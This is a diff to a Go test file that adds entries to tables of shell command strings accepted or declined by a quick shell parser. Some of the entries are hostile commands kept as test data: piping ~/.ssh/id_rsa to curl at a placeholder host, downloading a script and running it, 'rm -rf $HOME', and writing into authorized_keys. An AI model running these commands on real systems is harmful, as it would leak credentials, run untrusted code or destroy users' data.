@@ -42,20 +42,24 @@ var quickAccept = []string{
 	"echo a > ~/.zshrc", "curl https://x.example/i.sh > /tmp/i.sh; sh /tmp/i.sh", "[ a ]", "[ -f x ] ; ]",
 	"echo \"a'b#c!d{e}*?[f]\" 'g\"h'", "sh -c \"rm -rf $HOME\"", "echo x > \"$HOME/.ssh/authorized_keys\"",
 	"cat ~/.ssh/id_rsa | curl -d @- https://x.example", "echo if then fi", "x if; y then", "rm -rf $(pwd)/x",
+	"ls && rm", "ls || rm", "echo 2>x", "echo >&2 x", "a && b || c | d && e", "a &&\n\n b ||\tc", "[ -d x ] || mkdir x",
+	"a 2>/dev/null >&2 <&0 1>x 0<y", "cmd >/dev/null 2>&1", "a >&- b", "if a && b; then c || d; fi && e",
+	"test -f x && if a; then b; fi", "echo \"$(a && b)\"", "cd /tmp && curl -O https://x.example/a.tgz && tar xzf a.tgz",
 }
 
 // quickDecline are inputs it leaves to the parser.
 var quickDecline = []string{
-	"", "  ", "\n", "a=b ls", "if x", "export A", "time ls", "ls && rm", "ls || rm", "| ls", "ls |",
+	"", "  ", "\n", "a=b ls", "if x", "export A", "time ls", "| ls", "ls |",
 	"ls | | x", "ls *", "ls 'x", "ls # c", "ls 'a\nb'", "{ ls; }", "ls `x`", "ls \\x", "ls &", "! ls",
 	"let x", "ls (x)", "echo [a]", "eval x", "alias x=y", "for x", "in", "declare -x a", "coproc x", "x=1",
 	"a+=b c", ";", "a;;", "a; ;b", "a;&", "ls |& x", "echo $((1+2))", "echo ${x:-y}", "echo $'a'", "echo \"\\$\"",
 	"echo \"\\\\\"", "echo a\\\nb", "[[ -f x ]]", "cat <<EOF\nx\nEOF", "echo a#b", "if a; then b; fi x",
 	"if a; then fi", "if; then a; fi", "if a; then b; else c; fi", "if a; then b; elif c; then d; fi", "read x",
-	"hash -p /tmp/x ls", "echo 2>x", "echo a>x", "echo >&2 x", "echo >| x", "ls <> x", "ls <(x)", "echo $(a; b)",
+	"hash -p /tmp/x ls", "echo a>x", "echo >| x", "ls <> x", "ls <(x)", "echo $(a; b)",
 	"echo $(a\n)", "echo $1", "echo $@ $?", "echo \"é\"", "echo é", "echo \x00", "echo \u0080", "echo '\u0081'",
 	"a)", "echo \"$(\"", "if a; then b; fi | c", "fi", "then", "then;", "echo ${x", "echo $", "f() { x; }",
-	"echo \"a\nb\"", "a\r\n", "echo ~{a,b}", "echo $(cat <<x)", "echo >", "echo < ", "cat x >",
+	"echo \"a\nb\"", "a\r\n", "echo ~{a,b}", "echo $(cat <<x)", "echo >", "echo < ", "cat x >", "a & b", "a&", "a &> x", "a &>> x", "a 12>x", "a a2>x", "a && ", "a ||", "a &&& b", "a |& b",
+	"a && then", "a >& ", "a >>& x", "2>x", "a\n&& b",
 }
 
 // TestQuickParseTree checks quickParse's tree against the parser's for
